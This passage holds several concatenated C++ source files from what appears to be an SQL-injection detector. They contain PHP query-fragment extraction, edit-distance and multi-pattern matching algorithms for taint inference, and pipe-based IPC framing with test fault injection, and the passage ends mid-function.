  bool AddRaw(std::string_view text, std::string_view source_path = "<raw>",
              std::size_t line = 0);

  static FragmentSet FromSources(const std::vector<SourceFile>& files);

  const std::vector<Fragment>& fragments() const { return fragments_; }
  std::size_t size() const { return fragments_.size(); }
  bool empty() const { return fragments_.empty(); }

  // True if `text` is (exactly, case-sensitively) one of the fragments.
  bool Contains(std::string_view text) const;

 private:
  std::vector<Fragment> fragments_;
  std::unordered_set<std::string> texts_;  // dedupe + Contains()
};

}  // namespace joza::php
