#include "phpsrc/fragments.h"

#include "phpsrc/php_lexer.h"
#include "sqlparse/keywords.h"
#include "util/strings.h"

namespace joza::php {

std::vector<std::string> SplitAtPlaceholders(std::string_view piece) {
  std::vector<std::string> parts;
  std::string current;
  for (std::size_t i = 0; i < piece.size(); ++i) {
    if (piece[i] != '%' || i + 1 >= piece.size()) {
      current.push_back(piece[i]);
      continue;
    }
    // "%%" is a literal percent sign, not a placeholder.
    if (piece[i + 1] == '%') {
      current.push_back('%');
      ++i;
      continue;
    }
    // Parse a conversion spec: %[argnum$][flags][width][.precision]type
    std::size_t j = i + 1;
    while (j < piece.size() && (IsAsciiDigit(piece[j]) || piece[j] == '$' ||
                                piece[j] == '-' || piece[j] == '+' ||
                                piece[j] == '.' || piece[j] == '\'')) {
      ++j;
    }
    static constexpr std::string_view kTypes = "bcdeEfFgGosuxX";
    if (j < piece.size() && kTypes.find(piece[j]) != std::string_view::npos) {
      parts.push_back(current);
      current.clear();
      i = j;  // skip the whole spec
    } else {
      current.push_back('%');  // stray percent, keep literally
    }
  }
  parts.push_back(current);
  return parts;
}

bool FragmentSet::AddRaw(std::string_view text, std::string_view source_path,
                         std::size_t line) {
  if (text.empty()) return false;
  // Only fragments containing at least one valid SQL token are retained.
  if (!sql::ContainsSqlToken(text)) return false;
  auto [it, inserted] = texts_.insert(std::string(text));
  if (!inserted) return false;
  fragments_.push_back(Fragment{std::string(text), std::string(source_path),
                                line});
  return true;
}

void FragmentSet::AddSource(const SourceFile& file) {
  for (const StringLiteral& lit : ExtractStringLiterals(file.content)) {
    // Interpolation already split the literal into constant pieces; each
    // piece is further split at sprintf-style placeholders.
    for (const std::string& piece : lit.pieces) {
      for (const std::string& part : SplitAtPlaceholders(piece)) {
        AddRaw(part, file.path, lit.line);
      }
    }
  }
}

FragmentSet FragmentSet::FromSources(const std::vector<SourceFile>& files) {
  FragmentSet set;
  for (const SourceFile& f : files) set.AddSource(f);
  return set;
}

bool FragmentSet::Contains(std::string_view text) const {
  return texts_.contains(std::string(text));
}

}  // namespace joza::php
