#include "match/levenshtein.h"

#include <algorithm>
#include <limits>
#include <vector>

namespace joza::match {

std::size_t LevenshteinFull(std::string_view a, std::string_view b) {
  const std::size_t n = a.size(), m = b.size();
  std::vector<std::size_t> d((n + 1) * (m + 1));
  auto at = [&](std::size_t i, std::size_t j) -> std::size_t& {
    return d[i * (m + 1) + j];
  };
  for (std::size_t i = 0; i <= n; ++i) at(i, 0) = i;
  for (std::size_t j = 0; j <= m; ++j) at(0, j) = j;
  for (std::size_t i = 1; i <= n; ++i) {
    for (std::size_t j = 1; j <= m; ++j) {
      std::size_t sub = at(i - 1, j - 1) + (a[i - 1] == b[j - 1] ? 0 : 1);
      at(i, j) = std::min({at(i - 1, j) + 1, at(i, j - 1) + 1, sub});
    }
  }
  return at(n, m);
}

std::size_t LevenshteinTwoRow(std::string_view a, std::string_view b) {
  // Iterate over the longer string, keep rows over the shorter one.
  if (a.size() < b.size()) std::swap(a, b);
  const std::size_t n = a.size(), m = b.size();
  if (m == 0) return n;
  std::vector<std::size_t> prev(m + 1), cur(m + 1);
  for (std::size_t j = 0; j <= m; ++j) prev[j] = j;
  for (std::size_t i = 1; i <= n; ++i) {
    cur[0] = i;
    for (std::size_t j = 1; j <= m; ++j) {
      std::size_t sub = prev[j - 1] + (a[i - 1] == b[j - 1] ? 0 : 1);
      cur[j] = std::min({prev[j] + 1, cur[j - 1] + 1, sub});
    }
    std::swap(prev, cur);
  }
  return prev[m];
}

std::size_t LevenshteinBanded(std::string_view a, std::string_view b,
                              std::size_t max_distance) {
  if (a.size() < b.size()) std::swap(a, b);
  const std::size_t n = a.size(), m = b.size();
  if (n - m > max_distance) return max_distance + 1;
  const std::size_t kInf = std::numeric_limits<std::size_t>::max() / 2;
  std::vector<std::size_t> prev(m + 1, kInf), cur(m + 1, kInf);
  for (std::size_t j = 0; j <= std::min(m, max_distance); ++j) prev[j] = j;
  for (std::size_t i = 1; i <= n; ++i) {
    // Cells with |i-j| > max_distance can never contribute a distance
    // within the bound, so restrict j to the band around the diagonal.
    const std::size_t lo = (i > max_distance) ? i - max_distance : 0;
    const std::size_t hi = std::min(m, i + max_distance);
    if (lo > m) return max_distance + 1;
    std::fill(cur.begin(), cur.end(), kInf);
    if (lo == 0) cur[0] = i;
    std::size_t row_min = kInf;
    for (std::size_t j = std::max<std::size_t>(lo, 1); j <= hi; ++j) {
      std::size_t sub = prev[j - 1] + (a[i - 1] == b[j - 1] ? 0 : 1);
      std::size_t del = prev[j] + 1;
      std::size_t ins = cur[j - 1] + 1;
      cur[j] = std::min({sub, del, ins});
      row_min = std::min(row_min, cur[j]);
    }
    if (lo == 0) row_min = std::min(row_min, cur[0]);
    if (row_min > max_distance) return max_distance + 1;  // early exit
    std::swap(prev, cur);
  }
  return std::min(prev[m], max_distance + 1);
}

}  // namespace joza::match
