#include "match/qgram.h"

namespace joza::match {

QGramIndex::QGramIndex(std::string_view text) {
  if (text.size() < kQ) return;
  for (std::size_t i = 0; i + kQ <= text.size(); ++i) {
    const std::size_t gram = Pack(text, i);
    bits_[gram >> 6] |= std::uint64_t{1} << (gram & 63);
  }
}

std::size_t QGramIndex::CountPresent(std::string_view input) const {
  if (input.size() < kQ) return 0;
  std::size_t present = 0;
  for (std::size_t i = 0; i + kQ <= input.size(); ++i) {
    if (Has(Pack(input, i))) ++present;
  }
  return present;
}

bool QGramIndex::Rejects(std::string_view input,
                         std::size_t max_distance) const {
  if (input.size() < kQ) return false;  // no grams, no evidence
  const std::size_t total = input.size() - kQ + 1;
  // At least `total - k*q` grams must survive k edits; when that bound is
  // non-positive the filter has no power over this input.
  if (max_distance * kQ >= total) return false;
  const std::size_t required = total - max_distance * kQ;
  std::size_t present = 0;
  for (std::size_t i = 0; i + kQ <= input.size(); ++i) {
    if (Has(Pack(input, i))) {
      if (++present >= required) return false;  // enough evidence: no reject
    }
    // Even if every remaining gram were present we could not reach the
    // requirement: reject early.
    if (present + (total - i - 1) < required) return true;
  }
  return present < required;
}

}  // namespace joza::match
