// Approximate substring matching for NTI (Section III-A).
//
// Computes the minimum edit distance between an input parameter and any
// substring of the query (semi-global alignment / Sellers' algorithm), and
// recovers the matched query span so taint markings can be applied.
// The paper's difference ratio is distance ÷ matched-span length.
#pragma once

#include <cstddef>
#include <string_view>

#include "util/span.h"

namespace joza::match {

struct SubstringMatch {
  std::size_t distance = 0;  // edit distance input <-> matched query span
  ByteSpan span;             // matched byte range in the query
  // distance / span.length(); 0 when the input appears verbatim. A span of
  // length 0 (empty input) yields ratio 1 so it never matches.
  double ratio = 1.0;
};

// Finds the query substring with minimal edit distance to `input`.
// Ties on distance are broken in favour of the longer span (lower ratio).
// O(|input| * |query|) time, O(|query|) memory (Sellers, two rows).
SubstringMatch BestSubstringMatch(std::string_view query,
                                  std::string_view input);

// Same, but abandons the computation as soon as no substring can achieve an
// edit distance <= max_distance (per-row minimum pruning). Returns a match
// with distance == max_distance + 1 and ratio 1.0 when pruned. This is the
// optimization tier NTI uses for long inputs.
SubstringMatch BestSubstringMatchBounded(std::string_view query,
                                         std::string_view input,
                                         std::size_t max_distance);

}  // namespace joza::match
