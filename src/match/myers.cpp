#include "match/myers.h"

#include <array>
#include <cstdint>

namespace joza::match {

bool MyersEligible(std::string_view input) {
  if (input.empty() || input.size() > kMyersMaxPattern) return false;
  for (unsigned char c : input) {
    if (c >= 0x80) return false;
  }
  return true;
}

std::size_t MyersMinDistance(std::string_view query, std::string_view input) {
  const std::size_t n = input.size();
  // Peq[c]: bit i set iff input[i] == c. ASCII-only by eligibility, but the
  // table covers all bytes so arbitrary query bytes simply never match.
  std::array<std::uint64_t, 256> peq{};
  for (std::size_t i = 0; i < n; ++i) {
    peq[static_cast<unsigned char>(input[i])] |= std::uint64_t{1} << i;
  }

  // Hyyrö's formulation of Myers' algorithm. VP/VN encode the vertical
  // deltas of the previous DP column; score tracks the bottom cell D[n][j].
  // The top row is free (semi-global), so the horizontal vectors shift in
  // zeros. Bits above n-1 are garbage but never flow downward: the only
  // upward-propagating operation is the carry in the D0 addition.
  const std::uint64_t high = std::uint64_t{1} << (n - 1);
  std::uint64_t vp = ~std::uint64_t{0};
  std::uint64_t vn = 0;
  std::size_t score = n;
  std::size_t best = n;  // D[n][0]: the empty substring
  for (char qc : query) {
    const std::uint64_t eq = peq[static_cast<unsigned char>(qc)];
    const std::uint64_t d0 = (((eq & vp) + vp) ^ vp) | eq | vn;
    const std::uint64_t hp = vn | ~(d0 | vp);
    const std::uint64_t hn = vp & d0;
    if (hp & high) {
      ++score;
    } else if (hn & high) {
      --score;
    }
    const std::uint64_t hp_shift = hp << 1;
    const std::uint64_t hn_shift = hn << 1;
    vp = hn_shift | ~(d0 | hp_shift);
    vn = hp_shift & d0;
    if (score < best) {
      best = score;
      if (best == 0) break;
    }
  }
  return best;
}

}  // namespace joza::match
