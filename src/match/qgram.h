// Q-gram candidate seeding for approximate substring matching.
//
// Counting lemma: every edit destroys at most q of a pattern's q-grams, so
// a pattern within edit distance k of some text substring shares at least
// (n - q + 1) - k*q q-grams with the text. Indexing the text's q-grams
// once therefore lets each pattern be rejected in O(n) set probes — before
// any DP cell is touched. NTI builds one index per intercepted query and
// filters every request input through it; like the Myers kernel this is a
// pure reject filter, so it can never change a verdict.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <string_view>

namespace joza::match {

class QGramIndex {
 public:
  // Bigrams: the smallest gram that still rejects at NTI's input lengths
  // (min_input_length is 3), packed into 16 bits for a flat 8 KiB bitset —
  // no hashing, no per-entry allocation, byte-clean.
  static constexpr std::size_t kQ = 2;

  explicit QGramIndex(std::string_view text);

  // True if no substring of the indexed text can be within `max_distance`
  // edits of `input` (the counting argument proves absence). False means
  // "cannot reject" — the input may or may not match.
  bool Rejects(std::string_view input, std::size_t max_distance) const;

  // Number of `input` grams present in the text (diagnostics/tests).
  std::size_t CountPresent(std::string_view input) const;

 private:
  static constexpr std::size_t kWords = (std::size_t{1} << 16) / 64;
  bool Has(std::size_t gram) const {
    return (bits_[gram >> 6] >> (gram & 63)) & 1;
  }
  static std::size_t Pack(std::string_view s, std::size_t at) {
    return (static_cast<std::size_t>(static_cast<unsigned char>(s[at])) << 8) |
           static_cast<std::size_t>(static_cast<unsigned char>(s[at + 1]));
  }

  std::array<std::uint64_t, kWords> bits_{};
};

}  // namespace joza::match
