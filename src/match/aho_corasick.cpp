#include "match/aho_corasick.h"

#include <cassert>
#include <deque>

namespace joza::match {

std::int32_t AhoCorasick::Add(std::string_view pattern, std::int32_t id) {
  assert(!built_ && "Add() after Build()");
  if (pattern.empty()) return -1;
  std::int32_t node = 0;
  for (unsigned char c : pattern) {
    if (nodes_[node].next[c] < 0) {
      nodes_[node].next[c] = static_cast<std::int32_t>(nodes_.size());
      nodes_.emplace_back();
    }
    node = nodes_[node].next[c];
  }
  const auto pattern_index = static_cast<std::int32_t>(patterns_.size());
  patterns_.push_back({id, pattern.size()});
  // If multiple identical patterns are added, keep the first.
  if (nodes_[node].pattern_at < 0) nodes_[node].pattern_at = pattern_index;
  return pattern_index;
}

void AhoCorasick::Build() {
  assert(!built_);
  std::deque<std::int32_t> queue;
  // Depth-1 nodes fail to root; missing root transitions loop to root.
  for (int c = 0; c < 256; ++c) {
    std::int32_t v = nodes_[0].next[c];
    if (v < 0) {
      nodes_[0].next[c] = 0;
    } else {
      nodes_[v].fail = 0;
      queue.push_back(v);
    }
  }
  while (!queue.empty()) {
    std::int32_t u = queue.front();
    queue.pop_front();
    // Output link: nearest pattern-bearing node on the failure chain.
    const std::int32_t f = nodes_[u].fail;
    nodes_[u].output_link =
        nodes_[f].pattern_at >= 0 ? f : nodes_[f].output_link;
    for (int c = 0; c < 256; ++c) {
      std::int32_t v = nodes_[u].next[c];
      if (v < 0) {
        // Path-compress: borrow the failure node's transition.
        nodes_[u].next[c] = nodes_[f].next[c];
      } else {
        nodes_[v].fail = nodes_[f].next[c];
        queue.push_back(v);
      }
    }
  }
  built_ = true;
}

void AhoCorasick::FindAll(
    std::string_view text,
    const std::function<void(const Hit&)>& on_hit) const {
  assert(built_ && "FindAll() before Build()");
  Scan(text, on_hit);
}

std::vector<AhoCorasick::Hit> AhoCorasick::FindAll(
    std::string_view text) const {
  std::vector<Hit> hits;
  FindAll(text, [&hits](const Hit& h) { hits.push_back(h); });
  return hits;
}

}  // namespace joza::match
