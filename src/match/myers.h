// Bit-parallel approximate matching kernel (Myers' algorithm).
//
// Computes the semi-global edit-distance profile of a short pattern
// against a text in O(|text|) word operations: column j of the Sellers DP
// is encoded as two 64-bit delta vectors, so one loop iteration advances
// all |pattern| rows at once. NTI's staged matcher uses it as an exact
// *reject* filter: if the minimum distance over every text substring
// already exceeds the threshold bound, the full Sellers verification (and
// its span recovery) is skipped entirely. The kernel never decides a
// match by itself — accepts are re-verified by the reference DP — so the
// staged pipeline stays verdict-identical to the reference tier.
#pragma once

#include <cstddef>
#include <string_view>

namespace joza::match {

// Word width of the kernel: patterns longer than this take the Sellers
// fallback tier.
inline constexpr std::size_t kMyersMaxPattern = 64;

// Eligibility policy for the bit-parallel tier: 1..64 bytes, plain ASCII.
// (The kernel itself is byte-clean; the ASCII restriction keeps the staged
// tier conservative on multi-byte encodings, whose q-gram statistics the
// seeding stage was not tuned for.)
bool MyersEligible(std::string_view input);

// Minimum edit distance between `input` and any substring of `query` —
// exactly min_j of Sellers' final DP row (including the empty substring,
// distance |input|). Requires MyersEligible(input); |query| unbounded.
std::size_t MyersMinDistance(std::string_view query, std::string_view input);

}  // namespace joza::match
