// Levenshtein edit-distance implementations.
//
// NTI's approximate matcher is built on edit distance (the paper uses PHP's
// builtin levenshtein() for short strings and a linear-memory variant for
// long ones; Section VI-B). We provide the same tiers plus a banded variant
// with early exit, ablated in bench_ablation_lev.
#pragma once

#include <cstddef>
#include <string_view>

namespace joza::match {

// Classic full-matrix O(n*m) time, O(n*m) space. Reference implementation;
// useful for testing and for traceback-based span recovery.
std::size_t LevenshteinFull(std::string_view a, std::string_view b);

// Two-row O(n*m) time, O(min(n,m)) space. The workhorse.
std::size_t LevenshteinTwoRow(std::string_view a, std::string_view b);

// Banded variant: only computes cells within `max_distance` of the diagonal.
// Returns max_distance + 1 if the true distance exceeds max_distance.
// O(max_distance * min(n,m)) time.
std::size_t LevenshteinBanded(std::string_view a, std::string_view b,
                              std::size_t max_distance);

}  // namespace joza::match
