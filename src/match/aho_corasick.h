// Aho–Corasick multi-pattern matcher.
//
// PTI must find every occurrence of every application fragment inside a
// query. A naive per-fragment scan is O(fragments × query²); Aho–Corasick
// does all fragments in one O(query + hits) pass. The naive path is kept in
// pti/ for the ablation bench.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <functional>
#include <string>
#include <string_view>
#include <vector>

namespace joza::match {

class AhoCorasick {
 public:
  struct Hit {
    std::size_t begin = 0;  // byte offset of the match start in the text
    std::size_t length = 0;
    std::int32_t pattern_id = -1;
  };

  // Adds a pattern; empty patterns are ignored. Must be called before
  // Build(). Returns the internal pattern index (== insertion order).
  std::int32_t Add(std::string_view pattern, std::int32_t id);

  // Finalizes failure/output links. Must be called exactly once, after all
  // Add() calls and before FindAll().
  void Build();

  bool built() const { return built_; }
  std::size_t pattern_count() const { return patterns_.size(); }
  std::size_t node_count() const { return nodes_.size(); }

  // Invokes `on_hit` for every occurrence of every pattern in `text`.
  void FindAll(std::string_view text,
               const std::function<void(const Hit&)>& on_hit) const;

  // Convenience: collects all hits.
  std::vector<Hit> FindAll(std::string_view text) const;

  // Statically-dispatched matching loop: identical semantics to FindAll but
  // the callback inlines, so the per-request serving path pays no
  // std::function indirection per hit. FindAll delegates here.
  template <typename Fn>
  void Scan(std::string_view text, Fn&& on_hit) const {
    std::int32_t node = 0;
    for (std::size_t i = 0; i < text.size(); ++i) {
      node = nodes_[node].next[static_cast<unsigned char>(text[i])];
      for (std::int32_t v = node; v >= 0; v = nodes_[v].output_link) {
        if (nodes_[v].pattern_at >= 0) {
          const PatternInfo& p = patterns_[nodes_[v].pattern_at];
          Hit hit;
          hit.length = p.length;
          hit.begin = i + 1 - p.length;
          hit.pattern_id = p.id;
          on_hit(hit);
        }
      }
    }
  }

 private:
  struct Node {
    // Dense transition table; fragment sets are small enough (thousands of
    // nodes) that 1 KiB per node buys branch-free matching.
    std::array<std::int32_t, 256> next;
    std::int32_t fail = 0;
    std::int32_t output_link = -1;   // deepest proper suffix that is a pattern
    std::int32_t pattern_at = -1;    // pattern ending exactly at this node
    Node() { next.fill(-1); }
  };

  struct PatternInfo {
    std::int32_t id;
    std::size_t length;
  };

  std::vector<Node> nodes_{Node{}};
  std::vector<PatternInfo> patterns_;
  bool built_ = false;
};

}  // namespace joza::match
