#include "match/substring.h"

#include <algorithm>
#include <limits>
#include <vector>

namespace joza::match {

namespace {

SubstringMatch RunSellers(std::string_view query, std::string_view input,
                          std::size_t prune_above) {
  const std::size_t n = input.size();  // pattern rows
  const std::size_t m = query.size();  // text columns
  SubstringMatch none;
  none.distance = prune_above + 1;
  none.ratio = 1.0;
  if (n == 0) return none;

  // Exact-occurrence fast path: distance 0.
  if (std::size_t pos = query.find(input); pos != std::string_view::npos) {
    SubstringMatch m0;
    m0.distance = 0;
    m0.span = {pos, pos + n};
    m0.ratio = 0.0;
    return m0;
  }
  if (prune_above == 0) return none;

  // D[j]: best distance aligning input[0..i) to a query substring ending at
  // column j. Row 0 is all zeros (free start). start[j] records where that
  // substring begins, propagated along the DP predecessors.
  std::vector<std::size_t> prev(m + 1), cur(m + 1);
  std::vector<std::size_t> prev_start(m + 1), cur_start(m + 1);
  for (std::size_t j = 0; j <= m; ++j) {
    prev[j] = 0;
    prev_start[j] = j;
  }
  for (std::size_t i = 1; i <= n; ++i) {
    cur[0] = i;
    cur_start[0] = 0;
    std::size_t row_min = cur[0];
    for (std::size_t j = 1; j <= m; ++j) {
      const bool eq = input[i - 1] == query[j - 1];
      const std::size_t sub = prev[j - 1] + (eq ? 0 : 1);
      const std::size_t del = prev[j] + 1;      // drop input char
      const std::size_t ins = cur[j - 1] + 1;   // extra query char
      std::size_t best = sub;
      std::size_t best_start = prev_start[j - 1];
      if (del < best || (del == best && prev_start[j] < best_start)) {
        best = del;
        best_start = prev_start[j];
      }
      if (ins < best || (ins == best && cur_start[j - 1] < best_start)) {
        best = ins;
        best_start = cur_start[j - 1];
      }
      cur[j] = best;
      cur_start[j] = best_start;
      row_min = std::min(row_min, best);
    }
    if (row_min > prune_above) return none;  // no span can recover
    std::swap(prev, cur);
    std::swap(prev_start, cur_start);
  }

  // Free end: best cell in the final row. Ties prefer the longer span.
  SubstringMatch best;
  best.distance = std::numeric_limits<std::size_t>::max();
  for (std::size_t j = 0; j <= m; ++j) {
    const std::size_t len = j - prev_start[j];
    if (prev[j] < best.distance ||
        (prev[j] == best.distance && len > best.span.length())) {
      best.distance = prev[j];
      best.span = {prev_start[j], j};
    }
  }
  if (best.distance > prune_above) return none;
  best.ratio = best.span.length() == 0
                   ? 1.0
                   : static_cast<double>(best.distance) /
                         static_cast<double>(best.span.length());
  return best;
}

}  // namespace

SubstringMatch BestSubstringMatch(std::string_view query,
                                  std::string_view input) {
  // Unbounded: prune threshold above any achievable distance.
  return RunSellers(query, input, query.size() + input.size());
}

SubstringMatch BestSubstringMatchBounded(std::string_view query,
                                         std::string_view input,
                                         std::size_t max_distance) {
  return RunSellers(query, input, max_distance);
}

}  // namespace joza::match
