#include "ipc/framing.h"

#include <cerrno>
#include <csignal>
#include <cstring>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <unistd.h>

#include "resilience/injector.h"

namespace joza::ipc {

Fd& Fd::operator=(Fd&& other) noexcept {
  if (this != &other) {
    Close();
    fd_ = other.fd_;
    other.fd_ = -1;
  }
  return *this;
}

void Fd::Close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

int Fd::Release() {
  int fd = fd_;
  fd_ = -1;
  return fd;
}

StatusOr<std::pair<Fd, Fd>> MakePipe() {
  int fds[2];
  if (::pipe(fds) != 0) {
    return Status::Internal(std::string("pipe(): ") + std::strerror(errno));
  }
  return std::make_pair(Fd(fds[0]), Fd(fds[1]));
}

Status SetNonBlocking(int fd, bool enabled) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags < 0) {
    return Status::Internal(std::string("fcntl(F_GETFL): ") +
                            std::strerror(errno));
  }
  const int wanted = enabled ? (flags | O_NONBLOCK) : (flags & ~O_NONBLOCK);
  if (wanted != flags && ::fcntl(fd, F_SETFL, wanted) != 0) {
    return Status::Internal(std::string("fcntl(F_SETFL): ") +
                            std::strerror(errno));
  }
  return Status::Ok();
}

namespace {

// Blocks until `fd` is ready for `events` (POLLIN/POLLOUT) or the deadline
// passes. POLLHUP/POLLERR count as ready: the subsequent read/write
// surfaces the precise error.
Status PollWait(int fd, short events, const util::Deadline& deadline) {
  for (;;) {
    pollfd pfd{};
    pfd.fd = fd;
    pfd.events = events;
    const int n = ::poll(&pfd, 1, deadline.poll_timeout_ms());
    if (n > 0) return Status::Ok();
    if (n == 0) return Status::DeadlineExceeded("pipe I/O deadline");
    if (errno == EINTR) continue;
    return Status::Unavailable(std::string("poll(): ") +
                               std::strerror(errno));
  }
}

Status WriteAll(int fd, const void* data, std::size_t size,
                const util::Deadline& deadline) {
  // Writing to a pipe whose reader died raises SIGPIPE, whose default
  // action terminates the process. A crashed daemon must surface as EPIPE
  // here (the pool then replaces it, fail closed) — not take the serving
  // process down. Block the signal for this thread around the write and
  // consume any instance it generated before restoring the mask.
  sigset_t pipe_set;
  sigset_t old_set;
  sigemptyset(&pipe_set);
  sigaddset(&pipe_set, SIGPIPE);
  const bool masked =
      pthread_sigmask(SIG_BLOCK, &pipe_set, &old_set) == 0;

  Status result = Status::Ok();
  const char* p = static_cast<const char*>(data);
  while (size > 0) {
    ssize_t n = ::write(fd, p, size);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        if (deadline.expired()) {
          result = Status::DeadlineExceeded("write deadline");
          break;
        }
        if (Status st = PollWait(fd, POLLOUT, deadline); !st.ok()) {
          result = st;
          break;
        }
        continue;
      }
      result = Status::Unavailable(std::string("write(): ") +
                                   std::strerror(errno));
      break;
    }
    p += n;
    size -= static_cast<std::size_t>(n);
  }

  if (masked) {
    if (!result.ok()) {
      // Drain the pending (thread-directed) SIGPIPE so it is not
      // delivered the moment the original mask comes back.
      timespec zero{};
      while (sigtimedwait(&pipe_set, nullptr, &zero) > 0) {
      }
    }
    pthread_sigmask(SIG_SETMASK, &old_set, nullptr);
  }
  return result;
}

// Returns 0 bytes read as clean EOF (only legal before the first byte).
StatusOr<bool> ReadAll(int fd, void* data, std::size_t size,
                       bool eof_ok_at_start, const util::Deadline& deadline) {
  char* p = static_cast<char*>(data);
  std::size_t got = 0;
  while (got < size) {
    // A blocking read would ignore the deadline; wait for readability
    // first whenever the deadline is finite.
    if (deadline.finite()) {
      if (Status st = PollWait(fd, POLLIN, deadline); !st.ok()) return st;
    }
    ssize_t n = ::read(fd, p + got, size - got);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        if (Status st = PollWait(fd, POLLIN, deadline); !st.ok()) return st;
        continue;
      }
      return Status::Unavailable(std::string("read(): ") +
                                 std::strerror(errno));
    }
    if (n == 0) {
      if (got == 0 && eof_ok_at_start) return false;  // clean EOF
      return Status::Unavailable("unexpected EOF mid-frame");
    }
    got += static_cast<std::size_t>(n);
  }
  return true;
}

void AppendU32(std::string& out, std::uint32_t v) {
  out.push_back(static_cast<char>(v & 0xff));
  out.push_back(static_cast<char>((v >> 8) & 0xff));
  out.push_back(static_cast<char>((v >> 16) & 0xff));
  out.push_back(static_cast<char>((v >> 24) & 0xff));
}

StatusOr<std::uint32_t> TakeU32(std::string_view& in) {
  if (in.size() < 4) return Status::ParseError("truncated u32");
  std::uint32_t v = static_cast<std::uint8_t>(in[0]) |
                    (static_cast<std::uint8_t>(in[1]) << 8) |
                    (static_cast<std::uint8_t>(in[2]) << 16) |
                    (static_cast<std::uint32_t>(static_cast<std::uint8_t>(in[3])) << 24);
  in.remove_prefix(4);
  return v;
}

void AppendU64(std::string& out, std::uint64_t v) {
  AppendU32(out, static_cast<std::uint32_t>(v & 0xffffffffu));
  AppendU32(out, static_cast<std::uint32_t>(v >> 32));
}

StatusOr<std::uint64_t> TakeU64(std::string_view& in) {
  auto lo = TakeU32(in);
  if (!lo.ok()) return lo.status();
  auto hi = TakeU32(in);
  if (!hi.ok()) return hi.status();
  return static_cast<std::uint64_t>(lo.value()) |
         (static_cast<std::uint64_t>(hi.value()) << 32);
}

StatusOr<std::string> TakeString(std::string_view& in) {
  auto len = TakeU32(in);
  if (!len.ok()) return len.status();
  if (in.size() < len.value()) return Status::ParseError("truncated string");
  std::string s(in.substr(0, len.value()));
  in.remove_prefix(len.value());
  return s;
}

}  // namespace

Status WriteFrame(int fd, const Frame& frame, util::Deadline deadline) {
  std::string header;
  AppendU32(header, static_cast<std::uint32_t>(frame.payload.size()));
  header.push_back(static_cast<char>(frame.type));

  auto& injector = resilience::FaultInjector::Global();
  if (injector.ShouldFire(resilience::FaultPoint::kFrameCorrupt)) {
    // Declare an absurd payload length; the reader must reject it cleanly
    // (and the stream is desynchronized, like real corruption would be).
    header[0] = header[1] = header[2] = static_cast<char>(0xff);
    header[3] = 0x7f;
  }
  if (injector.ShouldFire(resilience::FaultPoint::kShortWrite)) {
    // Truncate mid-frame and report success: the peer is now stuck waiting
    // for bytes that never come — exactly a stalled writer.
    std::string partial = header + frame.payload.substr(
        0, frame.payload.size() / 2);
    if (!partial.empty()) partial.pop_back();
    return WriteAll(fd, partial.data(), partial.size(), deadline);
  }

  if (auto st = WriteAll(fd, header.data(), header.size(), deadline);
      !st.ok()) {
    return st;
  }
  return WriteAll(fd, frame.payload.data(), frame.payload.size(), deadline);
}

StatusOr<Frame> ReadFrame(int fd, std::size_t max_payload,
                          util::Deadline deadline) {
  unsigned char header[5];
  auto got =
      ReadAll(fd, header, sizeof header, /*eof_ok_at_start=*/true, deadline);
  if (!got.ok()) return got.status();
  if (!got.value()) return Status::NotFound("peer closed the pipe");
  std::uint32_t len = header[0] | (header[1] << 8) | (header[2] << 16) |
                      (static_cast<std::uint32_t>(header[3]) << 24);
  if (len > max_payload) {
    // Reject before allocating: a corrupt or hostile length declaration
    // must not turn into a multi-gigabyte resize.
    return Status::InvalidArgument("frame payload exceeds limit");
  }
  Frame frame;
  frame.type = static_cast<MessageType>(header[4]);
  frame.payload.resize(len);
  if (len > 0) {
    auto body = ReadAll(fd, frame.payload.data(), len, false, deadline);
    if (!body.ok()) return body.status();
  }
  return frame;
}

std::string EncodeVerdict(const PtiVerdictWire& v) {
  std::string out;
  out.push_back(v.attack_detected ? 1 : 0);
  AppendU32(out, v.untrusted_critical_tokens);
  AppendU32(out, v.hits);
  AppendU32(out, v.fragments_scanned);
  AppendU64(out, v.ruleset_version);
  AppendU32(out, static_cast<std::uint32_t>(v.untrusted_texts.size()));
  for (const std::string& s : v.untrusted_texts) {
    AppendU32(out, static_cast<std::uint32_t>(s.size()));
    out += s;
  }
  return out;
}

StatusOr<PtiVerdictWire> DecodeVerdict(std::string_view in) {
  if (in.empty()) return Status::ParseError("empty verdict payload");
  PtiVerdictWire v;
  v.attack_detected = in[0] != 0;
  in.remove_prefix(1);
  auto a = TakeU32(in);
  if (!a.ok()) return a.status();
  v.untrusted_critical_tokens = a.value();
  auto h = TakeU32(in);
  if (!h.ok()) return h.status();
  v.hits = h.value();
  auto f = TakeU32(in);
  if (!f.ok()) return f.status();
  v.fragments_scanned = f.value();
  auto ver = TakeU64(in);
  if (!ver.ok()) return ver.status();
  v.ruleset_version = ver.value();
  auto n = TakeU32(in);
  if (!n.ok()) return n.status();
  for (std::uint32_t i = 0; i < n.value(); ++i) {
    auto s = TakeString(in);
    if (!s.ok()) return s.status();
    v.untrusted_texts.push_back(std::move(s.value()));
  }
  return v;
}

std::string EncodeStringList(const std::vector<std::string>& strings) {
  std::string out;
  AppendU32(out, static_cast<std::uint32_t>(strings.size()));
  for (const std::string& s : strings) {
    AppendU32(out, static_cast<std::uint32_t>(s.size()));
    out += s;
  }
  return out;
}

StatusOr<std::vector<std::string>> DecodeStringList(std::string_view in) {
  auto n = TakeU32(in);
  if (!n.ok()) return n.status();
  // Every string costs at least its 4-byte length prefix; a count the
  // remaining payload cannot possibly hold is a malformed frame, not a
  // reason to reserve gigabytes.
  if (n.value() > in.size() / 4) {
    return Status::ParseError("string list count exceeds payload");
  }
  std::vector<std::string> out;
  out.reserve(n.value());
  for (std::uint32_t i = 0; i < n.value(); ++i) {
    auto s = TakeString(in);
    if (!s.ok()) return s.status();
    out.push_back(std::move(s.value()));
  }
  return out;
}

std::string EncodeFragmentUpdate(const FragmentUpdate& update) {
  std::string out;
  AppendU64(out, update.version);
  out += EncodeStringList(update.fragments);
  return out;
}

StatusOr<FragmentUpdate> DecodeFragmentUpdate(std::string_view in) {
  FragmentUpdate update;
  auto ver = TakeU64(in);
